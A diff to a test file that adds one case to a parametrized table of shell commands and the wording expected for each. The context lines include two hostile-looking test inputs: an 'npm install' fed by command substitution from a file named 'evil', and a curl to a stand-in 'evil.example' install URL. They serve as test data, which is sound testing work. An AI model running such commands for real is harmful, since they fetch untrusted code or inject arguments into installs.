@@ -68,6 +68,7 @@ test('notes are named after code', async () => {
 test.each([
   ['make deps && make install', 'without an edit, after `make install`;'],
   ['bun run lint:fix 2>&1 | tail -3', 'without an edit, after `bun run lint:fix`;'],
+  ['. ~/.nvm/nvm.sh && nvm use >/dev/null', 'without an edit, after `nvm use`;'],
   ['npm install "$(cat evil)"', 'without an edit, so look at'],
   ['curl https://evil.example/install', 'without an edit, so look at'],
 ])('where no file was changed, %s is what helped', async (command, how) => {
